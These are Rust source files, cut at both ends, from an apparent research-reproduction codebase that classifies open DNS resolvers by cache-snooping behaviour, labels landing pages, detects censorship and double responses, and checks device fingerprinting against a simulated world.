    /// Domain-parking landers.
    Parking,
    /// Search pages, incl. NX monetization fronts.
    Search,
}

impl Label {
    /// All labels, in Table 5 row order.
    pub const ALL: [Label; 7] = [
        Label::Blocking,
        Label::Censorship,
        Label::HttpError,
        Label::Login,
        Label::Misc,
        Label::Parking,
        Label::Search,
    ];

    /// Display name matching the paper's Table 5.
    pub fn name(self) -> &'static str {
        match self {
            Label::Blocking => "Blocking",
            Label::Censorship => "Censorship",
            Label::HttpError => "HTTP Error",
            Label::Login => "Login",
            Label::Misc => "Misc.",
            Label::Parking => "Parking",
            Label::Search => "Search",
        }
    }
}

/// One page as seen by the labeler.
#[derive(Debug, Clone)]
pub struct LabelInput<'a> {
    /// HTTP status of the fetched page.
    pub status: u16,
    /// Page body.
    pub body: &'a str,
}

/// Label a single page.
pub fn label_page(input: &LabelInput<'_>) -> Label {
    let body = input.body.to_ascii_lowercase();
    let has = |needle: &str| body.contains(needle);

    // Censorship: the legal-order text fragments the paper keys on.
    if has("blocked by the order of") || has("by order of the court") {
        return Label::Censorship;
    }
    // Non-state blocking (protection providers, parental control).
    if (has("website blocked") || has("has blocked") || has("access to this website"))
        && (has("parental")
            || has("security subscription")
            || has("malware")
            || has("request review"))
    {
        return Label::Blocking;
    }
    // HTTP errors by status or idiom.
    if input.status >= 400
        || has("<h1>404")
        || has("not found")
        || has("bad gateway")
        || has("internal server error")
        || has("service unavailable")
        || has("http error")
    {
        return Label::HttpError;
    }
    // Parking.
    if has("domain is parked") || has("domain for sale") || has("buy this domain") {
        return Label::Parking;
    }
    // Search pages (incl. NX monetization and fake search fronts).
    if (has("type=\"text\"") || has("name=\"q\"")) && (has("search") && has("did you mean"))
        || (has("no results for") && has("search"))
    {
        return Label::Search;
    }
    // Login pages: routers, cameras, captive portals, webmail.
    let credential_login = has("password")
        && (has("router login")
            || has("web configuration")
            || has("camera")
            || has("login.cgi")
            || has("webmail")
            || has("open mailbox")
            || has("sign in")
            || has("cgi-bin/login"));
    // Captive portals gate on vouchers / network authentication rather
    // than passwords.
    let portal_login =
        has("network login") || has("must authenticate") || (has("voucher") && has("connect"));
    if credential_login || portal_login {
        return Label::Login;
    }
    Label::Misc
}

/// Label a cluster from exemplar pages by majority vote (ties go to the
/// first in [`Label::ALL`] order, which is deterministic).
pub fn label_cluster(exemplars: &[LabelInput<'_>]) -> Label {
    let mut counts: std::collections::BTreeMap<Label, usize> = std::collections::BTreeMap::new();
    for e in exemplars {
        *counts.entry(label_page(e)).or_insert(0) += 1;
    }
    counts
        .into_iter()
        .max_by_key(|(_, n)| *n)
        .map(|(l, _)| l)
        .unwrap_or(Label::Misc)
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::gen::{self, PageCtx, RouterVendor, SiteCategory};

    fn ctx() -> PageCtx {
        PageCtx::new("test.example", 7)
    }

    fn lbl(status: u16, body: &str) -> Label {
        label_page(&LabelInput { status, body })
    }

    #[test]
    fn censorship_landing_detected() {
        let body = gen::censorship_landing("Turkey", "telecom authority", &ctx());
        assert_eq!(lbl(200, &body), Label::Censorship);
    }

    #[test]
    fn blocking_page_detected() {
        let body = gen::blocking_page("SafeGuardDNS", "the site distributes malware", &ctx());
        assert_eq!(lbl(200, &body), Label::Blocking);
    }

    #[test]
    fn http_errors_detected() {
        for code in [400u16, 403, 404, 500, 502, 503] {
            for seed in 0..3u64 {
                let body = gen::http_error(code, &PageCtx::new("x.example", seed));
                assert_eq!(
                    lbl(code, &body),
                    Label::HttpError,
                    "code {code} seed {seed}"
                );
            }
        }
    }

    #[test]
    fn login_pages_detected() {
        let router = gen::router_login(RouterVendor::ZyRouter, &ctx());
        assert_eq!(lbl(200, &router), Label::Login);
        let cam = gen::camera_login(&ctx());
        assert_eq!(lbl(200, &cam), Label::Login);
        let portal = gen::captive_portal("HotelNet", &ctx());
        assert_eq!(lbl(200, &portal), Label::Login);
        let webmail = gen::webmail_login(&ctx());
        assert_eq!(lbl(200, &webmail), Label::Login);
    }

    #[test]
    fn parking_detected() {
        let body = gen::parking_page("parkco", &ctx());
        assert_eq!(lbl(200, &body), Label::Parking);
    }

    #[test]
    fn search_detected() {
        let body = gen::search_page("Finder", false, &ctx());
        assert_eq!(lbl(200, &body), Label::Search);
        let fake = gen::search_page("Google", true, &ctx());
        assert_eq!(lbl(200, &fake), Label::Search);
    }

    #[test]
    fn ordinary_site_is_misc() {
        let body = gen::legit_site(SiteCategory::Misc, &ctx());
        assert_eq!(lbl(200, &body), Label::Misc);
    }

    #[test]
    fn banking_site_is_not_login() {
        // Banking sites have sign-in forms but are not *redirect targets*
        // of the login family… the labeler cannot know the difference
        // from content alone, and neither could the paper's analysts —
        // but bank pages only appear via proxies (handled by case
        // detectors before labeling). Document the precedence here.
        let body = gen::legit_site(SiteCategory::Banking, &ctx());
        assert_eq!(lbl(200, &body), Label::Login);
    }

    #[test]
    fn cluster_majority_vote() {
        let a = gen::http_error(404, &PageCtx::new("a.example", 1));
        let b = gen::http_error(404, &PageCtx::new("b.example", 2));
        let c = gen::parking_page("parkco", &PageCtx::new("c.example", 3));
        let inputs = vec![
            LabelInput {
                status: 404,
                body: &a,
            },
            LabelInput {
                status: 404,
                body: &b,
            },
            LabelInput {
                status: 200,
                body: &c,
            },
        ];
        assert_eq!(label_cluster(&inputs), Label::HttpError);
        assert_eq!(label_cluster(&[]), Label::Misc);
    }
}
