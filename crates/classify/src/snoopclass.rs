//! Cache-snooping series classification (Sec. 2.6).
//!
//! From 36 hourly NS observations of 15 TLDs per resolver, recover the
//! utilization classes the paper reports — including the "re-added
//! within 5 seconds" inference, which works by TTL arithmetic: knowing a
//! TLD's full TTL, a cached observation pins the entry's insertion time;
//! comparing with the previous expiry bounds the refresh gap.

use scanner::{SnoopResult, SnoopSample};
use serde::{Deserialize, Serialize};

/// Utilization classes (Sec. 2.6).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum UtilizationClass {
    /// Never answered any snooping query.
    Unresponsive,
    /// Answered exactly once, then fell silent (IP churn mid-campaign).
    SingleThenSilent,
    /// Always NOERROR with empty answers.
    EmptyResponder,
    /// Same TTL every time.
    StaticTtl,
    /// TTL 0 every time.
    ZeroTtl,
    /// ≥3 TLDs were re-added after expiry, at least one within ≤5 s.
    InUseFrequent,
    /// ≥3 TLDs were re-added after expiry.
    InUse,
    /// TTLs keep getting reset ahead of expiry (proactive refresh or
    /// load-balanced cache groups).
    TtlResetter,
    /// TTLs decrease but never expire within the window.
    DecreasingNoExpiry,
    /// Anything else (sparse/ambiguous series).
    Ambiguous,
}

/// Interval between snooping rounds, in seconds (paper: 60 minutes).
pub const ROUND_SECONDS: u64 = 3_600;
/// "Frequently used" refresh-gap bound (paper: 5 seconds).
pub const FREQUENT_GAP_S: u64 = 5;

/// Classify one resolver's snooping series. `full_ttls[tld]` is the
/// known full TTL of each TLD's NS record (estimated globally as the
/// maximum TTL observed for that TLD across all resolvers).
pub fn classify_snoop(result: &SnoopResult, full_ttls: &[u32]) -> UtilizationClass {
    let mut responses = 0usize;
    let mut entries = 0usize;
    let mut ttls_seen: Vec<u32> = Vec::new();

    for s in &result.samples {
        match s {
            SnoopSample::Silent => {}
            SnoopSample::NoEntry => responses += 1,
            SnoopSample::Ttl(t) => {
                responses += 1;
                entries += 1;
                ttls_seen.push(*t);
            }
        }
    }
    if responses == 0 {
        return UtilizationClass::Unresponsive;
    }
    if responses == 1 {
        return UtilizationClass::SingleThenSilent;
    }
    if entries == 0 {
        return UtilizationClass::EmptyResponder;
    }
    // Constant-TTL answers.
    if ttls_seen.iter().all(|&t| t == ttls_seen[0]) && entries == responses {
        return if ttls_seen[0] == 0 {
            UtilizationClass::ZeroTtl
        } else {
            UtilizationClass::StaticTtl
        };
    }

    // Per-TLD refresh analysis.
    let mut refreshed_tlds = 0usize;
    let mut any_frequent = false;
    let mut any_expiry_visible = false;
    let mut always_near_full = true;

    for tld in 0..result.tld_count {
        let series = result.tld_series(tld);
        let full = full_ttls.get(tld).copied().unwrap_or(0) as i64;
        let mut refreshed = false;
        let mut prev: Option<(usize, u32)> = None; // (round, ttl)
        let mut was_absent = false;
        for (round, s) in series.iter().enumerate() {
            match s {
                SnoopSample::Ttl(t) => {
                    let t64 = *t as i64;
                    if full > 0 && t64 < full * 85 / 100 {
                        always_near_full = false;
                    }
                    if was_absent {
                        // Plain re-add after an observed absence.
                        refreshed = true;
                        any_expiry_visible = true;
                    }
                    if let Some((pr, pt)) = prev {
                        // TTL arithmetic: previous entry expired at
                        // pr*R + pt; this entry was inserted at
                        // round*R − (full − t). Gap = insert − expiry.
                        let rounds_elapsed = (round - pr) as i64 * ROUND_SECONDS as i64;
                        let expiry_in = pt as i64;
                        if full > 0 && rounds_elapsed > expiry_in {
                            // The old entry expired between samples.
                            any_expiry_visible = true;
                            let insert_offset = rounds_elapsed - (full - t64);
                            let gap = insert_offset - expiry_in;
                            if gap >= 0 {
                                refreshed = true;
                                if gap as u64 <= FREQUENT_GAP_S {
                                    any_frequent = true;
                                }
                            }
                        }
                    }
                    prev = Some((round, *t));
                    was_absent = false;
                }
                SnoopSample::NoEntry => {
                    was_absent = true;
                    always_near_full = false;
                }
                SnoopSample::Silent => {}
            }
        }
        if refreshed {
            refreshed_tlds += 1;
        }
    }

    // Resetters first: their TTL never strays from the maximum, so any
    // "refresh" the arithmetic inferred is proactive, not client-driven.
    if always_near_full {
        return UtilizationClass::TtlResetter;
    }
    if refreshed_tlds >= 3 {
        if any_frequent {
            return UtilizationClass::InUseFrequent;
        }
        return UtilizationClass::InUse;
    }
    if !any_expiry_visible {
        return UtilizationClass::DecreasingNoExpiry;
    }
    UtilizationClass::Ambiguous
}

/// Resolver popularity estimate (queries per hour), in the spirit of
/// Rajab et al.'s DNS-based popularity estimation — the follow-up the
/// paper names at the end of Sec. 2.6.
///
/// Model: client queries arrive as a Poisson process with rate λ. An
/// expired cache entry is re-filled by the *next* client query, so the
/// expiry→re-add gap is exponentially distributed with mean 1/λ. The
/// TTL arithmetic recovers those gaps; λ̂ = 1 / mean(gap).
pub fn estimate_popularity(result: &SnoopResult, full_ttls: &[u32]) -> Option<f64> {
    let mut gaps: Vec<f64> = Vec::new();
    for tld in 0..result.tld_count {
        let series = result.tld_series(tld);
        let full = full_ttls.get(tld).copied().unwrap_or(0) as i64;
        if full == 0 {
            continue;
        }
        let mut prev: Option<(usize, u32)> = None;
        for (round, s) in series.iter().enumerate() {
            if let SnoopSample::Ttl(t) = s {
                if let Some((pr, pt)) = prev {
                    let rounds_elapsed = (round - pr) as i64 * ROUND_SECONDS as i64;
                    let expiry_in = pt as i64;
                    if rounds_elapsed > expiry_in {
                        let insert_offset = rounds_elapsed - (full - *t as i64);
                        let gap = insert_offset - expiry_in;
                        // A gap ≥ full TTL can only arise when whole
                        // refresh cycles were skipped between samples
                        // (aliasing) — reject those observations.
                        if gap >= 0 && gap < full {
                            gaps.push((gap as f64).max(0.5));
                        }
                    }
                }
                prev = Some((round, *t));
            }
        }
    }
    if gaps.is_empty() {
        return None;
    }
    let mean = gaps.iter().sum::<f64>() / gaps.len() as f64;
    Some(3_600.0 / mean)
}

/// Estimate each TLD's full NS TTL: the *median* of per-resolver maxima.
/// The median is robust against resolvers that invent TTLs (static-TTL
/// responders, ghost-cache resolvers with inflated values) — the zone's
/// true TTL is what the honest majority's freshly-cached entries show.
pub fn estimate_full_ttls(results: &[&SnoopResult]) -> Vec<u32> {
    let tld_count = results.first().map(|r| r.tld_count).unwrap_or(0);
    let mut full = vec![0u32; tld_count];
    for (tld, slot) in full.iter_mut().enumerate() {
        let mut maxima: Vec<u32> = results
            .iter()
            .filter_map(|r| {
                if tld >= r.tld_count {
                    return None;
                }
                r.tld_series(tld)
                    .iter()
                    .filter_map(|s| match s {
                        SnoopSample::Ttl(t) => Some(*t),
                        _ => None,
                    })
                    .max()
            })
            .filter(|&t| t > 0)
            .collect();
        if maxima.is_empty() {
            continue;
        }
        maxima.sort_unstable();
        *slot = maxima[maxima.len() / 2];
    }
    full
}

#[cfg(test)]
mod tests {
    use super::*;

    fn result(
        tlds: usize,
        rounds: usize,
        mut f: impl FnMut(usize, usize) -> SnoopSample,
    ) -> SnoopResult {
        let mut samples = Vec::with_capacity(tlds * rounds);
        for t in 0..tlds {
            for r in 0..rounds {
                samples.push(f(t, r));
            }
        }
        SnoopResult {
            tld_count: tlds,
            rounds,
            samples,
        }
    }

    #[test]
    fn silent_and_single() {
        let r = result(15, 36, |_, _| SnoopSample::Silent);
        assert_eq!(
            classify_snoop(&r, &[3600; 15]),
            UtilizationClass::Unresponsive
        );
        let r = result(15, 36, |t, round| {
            if t == 0 && round == 0 {
                SnoopSample::Ttl(3600)
            } else {
                SnoopSample::Silent
            }
        });
        assert_eq!(
            classify_snoop(&r, &[3600; 15]),
            UtilizationClass::SingleThenSilent
        );
    }

    #[test]
    fn empty_static_zero() {
        let r = result(15, 36, |_, _| SnoopSample::NoEntry);
        assert_eq!(
            classify_snoop(&r, &[3600; 15]),
            UtilizationClass::EmptyResponder
        );
        let r = result(15, 36, |_, _| SnoopSample::Ttl(777));
        assert_eq!(classify_snoop(&r, &[777; 15]), UtilizationClass::StaticTtl);
        let r = result(15, 36, |_, _| SnoopSample::Ttl(0));
        assert_eq!(classify_snoop(&r, &[0; 15]), UtilizationClass::ZeroTtl);
    }

    #[test]
    fn in_use_via_absence_readd() {
        // TTL 1800 (expires within the hour), gap visible as NoEntry,
        // then re-added: pattern Ttl, NoEntry, Ttl, NoEntry…
        let r = result(15, 36, |t, round| {
            if t < 5 {
                if round % 2 == 0 {
                    SnoopSample::Ttl(1800)
                } else {
                    SnoopSample::NoEntry
                }
            } else {
                SnoopSample::NoEntry
            }
        });
        let c = classify_snoop(&r, &[1800; 15]);
        assert_eq!(c, UtilizationClass::InUse);
    }

    #[test]
    fn frequent_via_ttl_arithmetic() {
        // Full TTL 3000 s; observations hourly. Entry observed with TTL
        // decreasing; after expiry the fresh entry's TTL implies a ≤5 s
        // refresh gap: rounds_elapsed=3600, expiry_in = prev ttl,
        // insert_offset = 3600 − (3000 − t_new). Choose t_new so gap ≈ 2.
        // gap = 3600 − 3000 + t_new − pt. With pt = 600: gap = t_new − 0.
        // t_new = 2998 ⇒ insert 2 s after expiry... compute: gap =
        // 3600 − (3000 − 2998) − 600 = 2998. Hmm — pick pt=3598? Not
        // possible (> full). Instead pt = 600, t_new = 2 + 3000 − 3600 + 600 = 2.
        // Wait: gap = (3600 − (3000 − t_new)) − 600 = t_new. So t_new=3.
        let r = result(15, 36, |t, round| {
            if t < 5 {
                match round % 2 {
                    0 => SnoopSample::Ttl(600),
                    _ => SnoopSample::Ttl(3), // inserted 3 s after expiry
                }
            } else {
                SnoopSample::NoEntry
            }
        });
        let c = classify_snoop(&r, &[3000; 15]);
        assert_eq!(c, UtilizationClass::InUseFrequent);
    }

    #[test]
    fn resetter_always_near_full() {
        let r = result(15, 36, |_, round| {
            SnoopSample::Ttl(3600 - (round as u32 % 10) * 30)
        });
        assert_eq!(
            classify_snoop(&r, &[3600; 15]),
            UtilizationClass::TtlResetter
        );
    }

    #[test]
    fn decreasing_no_expiry() {
        // Huge TTL, decreases across the window, never expires.
        let r = result(15, 36, |_, round| {
            SnoopSample::Ttl(172_800 - round as u32 * 3600)
        });
        assert_eq!(
            classify_snoop(&r, &[172_800; 15]),
            UtilizationClass::DecreasingNoExpiry
        );
    }

    #[test]
    fn popularity_from_refresh_gaps() {
        // Generate self-consistent series straight from the cache model:
        // a fast resolver (3 s refresh gap) vs a slow one (1500 s).
        use resolversim::{CacheProfile, TldCacheSim};
        let series_for = |gap: u32| -> SnoopResult {
            let mut sim = TldCacheSim::new(CacheProfile::InUse {
                refresh_gap_s: gap,
                tld_mask: 0x7fff,
                phase_s: 0,
            });
            result(15, 36, |t, round| {
                match sim.observe(t as u32, 3000, round as u64 * ROUND_SECONDS) {
                    resolversim::cachesim::SnoopObservation::Cached { remaining_ttl } => {
                        SnoopSample::Ttl(remaining_ttl)
                    }
                    _ => SnoopSample::NoEntry,
                }
            })
        };
        let fast_rate = estimate_popularity(&series_for(3), &[3000; 15]).unwrap();
        let slow_rate = estimate_popularity(&series_for(1500), &[3000; 15]).unwrap();
        assert!(
            fast_rate > 20.0 * slow_rate,
            "fast {fast_rate} slow {slow_rate}"
        );
        assert!(
            fast_rate > 600.0,
            "≈1 query / 3 s ⇒ ≈1200/h, got {fast_rate}"
        );
        assert!(
            (1.0..10.0).contains(&slow_rate),
            "≈1/1500 s ⇒ ≈2.4/h, got {slow_rate}"
        );
    }

    #[test]
    fn popularity_none_without_observed_refreshes() {
        let idle = result(15, 36, |_, _| SnoopSample::NoEntry);
        assert!(estimate_popularity(&idle, &[3000; 15]).is_none());
    }

    #[test]
    fn full_ttl_estimation_is_median_robust() {
        // Three honest resolvers see the zone TTL (3600); one ghost
        // resolver inflates it to 172800. The median ignores the ghost.
        let honest = result(3, 4, |_, round| SnoopSample::Ttl(3600 - round as u32 * 10));
        let h2 = honest.clone();
        let h3 = honest.clone();
        let ghost = result(3, 4, |_, _| SnoopSample::Ttl(172_800));
        let full = estimate_full_ttls(&[&honest, &h2, &h3, &ghost]);
        assert_eq!(full, vec![3600, 3600, 3600]);
    }
}
