//! Censorship analysis (Sec. 4.2): landing-page inventory, per-country
//! compliance, and Great-Firewall double-response detection.

use geodb::{Country, GeoDb};
use scanner::TupleObs;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::Ipv4Addr;

/// Inventory of censorship landing pages: IPs whose served content was
/// labeled Censorship, attributed to countries by GeoIP.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct LandingInventory {
    /// Landing IP → country (of the IP itself).
    pub ips: BTreeMap<Ipv4Addr, Option<Country>>,
}

impl LandingInventory {
    /// Record a censorship landing address.
    pub fn add(&mut self, ip: Ipv4Addr, geo: &GeoDb) {
        self.ips.entry(ip).or_insert_with(|| geo.country(ip));
    }

    /// Number of distinct landing-page addresses (paper: 299).
    pub fn ip_count(&self) -> usize {
        self.ips.len()
    }

    /// Number of distinct countries involved (paper: 34; note CN
    /// censors via injection, not landing pages).
    pub fn country_count(&self) -> usize {
        let set: BTreeSet<Country> = self.ips.values().flatten().copied().collect();
        set.len()
    }
}

/// Per-(country, domain) compliance accumulator: how many resolvers in a
/// country answered a domain legitimately vs. with censorship.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ComplianceReport {
    /// `(country, domain) → (censored, legitimate)` resolver counts.
    /// Serialized as a list of rows (JSON objects cannot key on tuples).
    #[serde(with = "compliance_rows")]
    pub counts: BTreeMap<(Country, String), (u64, u64)>,
}

/// Serde adapter: the tuple-keyed map round-trips as
/// `[[country, domain, censored, legitimate], …]`.
mod compliance_rows {
    use super::*;
    use serde::{Deserializer, Serializer};

    type Counts = BTreeMap<(Country, String), (u64, u64)>;

    pub fn serialize<S: Serializer>(map: &Counts, ser: S) -> Result<S::Ok, S::Error> {
        let rows: Vec<(String, &String, u64, u64)> = map
            .iter()
            .map(|((c, d), (cen, leg))| (c.as_str().to_string(), d, *cen, *leg))
            .collect();
        serde::Serialize::serialize(&rows, ser)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(de: D) -> Result<Counts, D::Error> {
        let rows: Vec<(String, String, u64, u64)> = serde::Deserialize::deserialize(de)?;
        Ok(rows
            .into_iter()
            .map(|(c, d, cen, leg)| ((Country::new(&c), d), (cen, leg)))
            .collect())
    }
}

impl ComplianceReport {
    /// Record one resolver's answer for a censorship-relevant domain.
    pub fn record(&mut self, country: Country, domain: &str, censored: bool) {
        let e = self
            .counts
            .entry((country, domain.to_string()))
            .or_insert((0, 0));
        if censored {
            e.0 += 1;
        } else {
            e.1 += 1;
        }
    }

    /// Compliance rate for a country over a set of domains: fraction of
    /// resolver-domain observations that were censored.
    pub fn rate(&self, country: Country, domains: &[&str]) -> Option<f64> {
        let mut censored = 0u64;
        let mut total = 0u64;
        for d in domains {
            if let Some((c, l)) = self.counts.get(&(country, d.to_string())) {
                censored += c;
                total += c + l;
            }
        }
        (total > 0).then(|| censored as f64 / total as f64)
    }

    /// Countries with any censored observation.
    pub fn censoring_countries(&self) -> BTreeSet<Country> {
        self.counts
            .iter()
            .filter(|(_, (c, _))| *c > 0)
            .map(|((country, _), _)| *country)
            .collect()
    }
}

/// GFW double-response detection: resolvers that produced multiple
/// answers for one probe where the *first* is bogus and a later one is
/// legitimate (Sec. 4.2: 125,660 Chinese resolvers, 2.4%).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DoubleResponseReport {
    /// Resolver indexes exhibiting forged-then-legit behaviour.
    pub forged_then_legit: BTreeSet<u32>,
    /// Resolver indexes with multiple (all-bogus) answers.
    pub multi_bogus: BTreeSet<u32>,
}

/// Analyze a tuple stream for double responses. `is_legit(domain_idx,
/// ips)` decides whether an answer matches the trusted resolution.
pub fn detect_double_responses(
    tuples: &[TupleObs],
    is_legit: impl Fn(u16, &[Ipv4Addr]) -> bool,
) -> DoubleResponseReport {
    // Group by (resolver, domain).
    let mut groups: HashMap<(u32, u16), Vec<&TupleObs>> = HashMap::new();
    for t in tuples {
        groups
            .entry((t.resolver_idx, t.domain_idx))
            .or_default()
            .push(t);
    }
    let mut report = DoubleResponseReport::default();
    for ((resolver, domain), mut group) in groups {
        if group.len() < 2 {
            continue;
        }
        group.sort_by_key(|t| t.response_ordinal);
        let first_legit = is_legit(domain, &group[0].ips);
        let any_later_legit = group[1..].iter().any(|t| is_legit(domain, &t.ips));
        if !first_legit && any_later_legit {
            report.forged_then_legit.insert(resolver);
        } else if !first_legit {
            report.multi_bogus.insert(resolver);
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnswire::Rcode;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn tup(resolver: u32, domain: u16, ordinal: u8, ips: Vec<Ipv4Addr>) -> TupleObs {
        TupleObs {
            resolver_idx: resolver,
            resolver_ip: ip("5.5.5.5"),
            domain_idx: domain,
            rcode: Rcode::NoError,
            ips,
            response_ordinal: ordinal,
            src_ip: ip("5.5.5.5"),
            ns_only: false,
        }
    }

    #[test]
    fn compliance_rates() {
        let mut r = ComplianceReport::default();
        let tr = Country::new("TR");
        for _ in 0..90 {
            r.record(tr, "youporn.example", true);
        }
        for _ in 0..10 {
            r.record(tr, "youporn.example", false);
        }
        assert!((r.rate(tr, &["youporn.example"]).unwrap() - 0.9).abs() < 1e-9);
        assert_eq!(r.rate(Country::new("US"), &["youporn.example"]), None);
        assert!(r.censoring_countries().contains(&tr));
    }

    #[test]
    fn double_response_detection() {
        let legit = ip("20.0.0.1");
        let forged = ip("6.6.6.6");
        let tuples = vec![
            // Resolver 1: forged then legit (GFW escape).
            tup(1, 0, 0, vec![forged]),
            tup(1, 0, 1, vec![legit]),
            // Resolver 2: two forged answers.
            tup(2, 0, 0, vec![forged]),
            tup(2, 0, 1, vec![ip("7.7.7.7")]),
            // Resolver 3: single legit.
            tup(3, 0, 0, vec![legit]),
            // Resolver 4: legit then forged (not the GFW signature).
            tup(4, 0, 0, vec![legit]),
            tup(4, 0, 1, vec![forged]),
        ];
        let report = detect_double_responses(&tuples, |_, ips| ips.contains(&legit));
        assert!(report.forged_then_legit.contains(&1));
        assert!(report.multi_bogus.contains(&2));
        assert!(!report.forged_then_legit.contains(&3));
        assert!(!report.forged_then_legit.contains(&4));
        assert!(!report.multi_bogus.contains(&4));
    }

    #[test]
    fn compliance_report_json_round_trips() {
        let mut r = ComplianceReport::default();
        r.record(Country::new("TR"), "youporn.example", true);
        r.record(Country::new("US"), "youporn.example", false);
        let json = serde_json::to_string(&r).unwrap();
        let back: ComplianceReport = serde_json::from_str(&json).unwrap();
        assert_eq!(back.counts, r.counts);
    }

    #[test]
    fn landing_inventory_counts_countries() {
        use geodb::{IpRangeMap, NetBlock};
        let mut b = IpRangeMap::builder();
        b.insert(
            ip("60.0.0.0"),
            ip("60.0.0.255"),
            NetBlock {
                country: Country::new("TR"),
                asn: 1,
                rdns: None,
            },
        )
        .unwrap();
        b.insert(
            ip("61.0.0.0"),
            ip("61.0.0.255"),
            NetBlock {
                country: Country::new("ID"),
                asn: 2,
                rdns: None,
            },
        )
        .unwrap();
        let geo = GeoDb::new(b.build(), vec![]);
        let mut inv = LandingInventory::default();
        inv.add(ip("60.0.0.1"), &geo);
        inv.add(ip("60.0.0.2"), &geo);
        inv.add(ip("60.0.0.2"), &geo); // duplicate
        inv.add(ip("61.0.0.1"), &geo);
        assert_eq!(inv.ip_count(), 3);
        assert_eq!(inv.country_count(), 2);
    }
}
