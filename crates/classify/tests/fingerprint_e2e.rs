//! Closed-loop fingerprinting test: the generated world has the paper's
//! device and software mixes; the scan + classifier must recover them.

use classify::{classify_version, fingerprint_device, SoftwareClass};
use resolversim::{DeviceClass, DeviceOs};
use scanner::{banner_scan, chaos_scan, enumerate, ChaosObservation};
use std::collections::HashMap;
use worldgen::{build_world, WorldConfig};

#[test]
fn device_mix_recovered_from_banners() {
    let mut w = build_world(WorldConfig::tiny(31));
    let vantage = w.scanner_ip;
    let fleet = enumerate(&mut w, vantage, 1).noerror_ips();
    let banners = banner_scan(&mut w, &fleet);

    let mut hw: HashMap<DeviceClass, usize> = HashMap::new();
    let mut os: HashMap<DeviceOs, usize> = HashMap::new();
    for obs in banners.values() {
        let fp = fingerprint_device(obs);
        *hw.entry(fp.class).or_insert(0) += 1;
        *os.entry(fp.os).or_insert(0) += 1;
    }
    let total = banners.len() as f64;
    let hw_share = |c: DeviceClass| *hw.get(&c).unwrap_or(&0) as f64 / total;
    let os_share = |c: DeviceOs| *os.get(&c).unwrap_or(&0) as f64 / total;

    // Paper Table 4: routers 34.1% of TCP-responsive hosts.
    let router = hw_share(DeviceClass::Router);
    assert!((0.22..0.46).contains(&router), "router share {router}");
    // ZyNOS 16.6%.
    let zynos = os_share(DeviceOs::ZyNos);
    assert!((0.08..0.26).contains(&zynos), "ZyNOS share {zynos}");
    // A large Unknown bucket must remain (paper: 29.3% hardware).
    let unknown = hw_share(DeviceClass::Unknown);
    assert!((0.05..0.45).contains(&unknown), "unknown share {unknown}");
    // Cameras and DVRs exist but are small.
    assert!(hw_share(DeviceClass::Camera) < 0.08);
    assert!(hw_share(DeviceClass::Dvr) < 0.06);
}

#[test]
fn software_mix_recovered_from_chaos() {
    let mut w = build_world(WorldConfig::tiny(32));
    let vantage = w.scanner_ip;
    let fleet = enumerate(&mut w, vantage, 2).noerror_ips();
    let obs = chaos_scan(&mut w, vantage, &fleet, 2);

    let mut known = 0usize;
    let mut custom = 0usize;
    let mut errors = 0usize;
    let mut bind = 0usize;
    let mut total = 0usize;
    for o in obs.values() {
        match o {
            ChaosObservation::Silent => {}
            ChaosObservation::Errors => {
                total += 1;
                errors += 1;
            }
            ChaosObservation::EmptyAnswers => total += 1,
            ChaosObservation::Version(v) => {
                total += 1;
                match classify_version(v) {
                    SoftwareClass::Known { family, .. } => {
                        known += 1;
                        if family == "BIND" {
                            bind += 1;
                        }
                    }
                    SoftwareClass::Custom(_) => custom += 1,
                }
            }
        }
    }
    let t = total as f64;
    // Paper: 42.7% errors, 18.8% custom, 33.9% genuine.
    assert!(
        (0.32..0.54).contains(&(errors as f64 / t)),
        "errors {}",
        errors as f64 / t
    );
    assert!(
        (0.10..0.28).contains(&(custom as f64 / t)),
        "custom {}",
        custom as f64 / t
    );
    assert!(
        (0.24..0.44).contains(&(known as f64 / t)),
        "known {}",
        known as f64 / t
    );
    // BIND ≈ 60.2% of version leakers (custom strings like "9.9.9" leak
    // into Known-BIND, so allow a wide band).
    let bind_share = bind as f64 / known.max(1) as f64;
    assert!((0.45..0.75).contains(&bind_share), "bind {bind_share}");
}
