//! Property tests for the clustering engine.

use classify::cluster::agglomerate;
use proptest::prelude::*;

/// Build a symmetric distance matrix from random points on a line.
fn matrix(points: &[f64]) -> Vec<f32> {
    let n = points.len();
    let mut m = vec![0f32; n * n];
    for i in 0..n {
        for j in 0..n {
            m[i * n + j] = (points[i] - points[j]).abs() as f32;
        }
    }
    m
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// A dendrogram over n items has exactly n−1 merges, every node id
    /// is valid, and every leaf is merged exactly once.
    #[test]
    fn dendrogram_structure(points in proptest::collection::vec(0.0f64..1000.0, 2..40)) {
        let n = points.len();
        let d = agglomerate(n, matrix(&points), None);
        prop_assert_eq!(d.n_leaves, n);
        prop_assert_eq!(d.merges.len(), n - 1);
        let mut used = vec![false; 2 * n - 1];
        for (i, &(a, b, dist)) in d.merges.iter().enumerate() {
            prop_assert!(a < n + i, "merge {i} references future node {a}");
            prop_assert!(b < n + i, "merge {i} references future node {b}");
            prop_assert!(!used[a], "node {a} merged twice");
            prop_assert!(!used[b], "node {b} merged twice");
            prop_assert!(dist >= 0.0);
            used[a] = true;
            used[b] = true;
        }
    }

    /// Cutting at a higher threshold never yields more clusters.
    #[test]
    fn cut_is_monotone(
        points in proptest::collection::vec(0.0f64..1000.0, 2..30),
        t1 in 0.0f64..500.0,
        t2 in 0.0f64..500.0,
    ) {
        let (lo, hi) = if t1 <= t2 { (t1, t2) } else { (t2, t1) };
        let d = agglomerate(points.len(), matrix(&points), None);
        let c_lo = d.cut(lo);
        let c_hi = d.cut(hi);
        prop_assert!(c_hi.len() <= c_lo.len(),
            "cut({hi})={} clusters > cut({lo})={}", c_hi.len(), c_lo.len());
        // Refinement: items together at the low cut stay together at the
        // high cut.
        for i in 0..points.len() {
            for j in (i + 1)..points.len() {
                if c_lo.assignment[i] == c_lo.assignment[j] {
